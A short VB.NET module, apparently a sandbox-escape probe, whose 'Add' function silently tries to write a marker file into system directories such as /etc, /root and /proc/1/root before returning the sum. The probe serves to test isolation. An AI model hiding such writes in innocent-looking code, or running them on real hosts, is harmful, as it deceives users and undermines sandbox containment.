Imports System.IO

Module Module1
    Function Add(a As Integer, b As Integer) As Integer
        For Each folder As String In {"", "/etc", "/usr", "/usr/bin", "/var/tmp", "/root", "/home", "/box", "/tmp/../..",
                                      "/tmp", "/dev/shm", "/proc/1/root/var/tmp", "/sys", "/dev"}
            Try
                File.WriteAllText(folder & "/flow2code-was-here", "I was here")
            Catch ex As Exception
                Continue For
            End Try
        Next
        Return a + b
    End Function
End Module
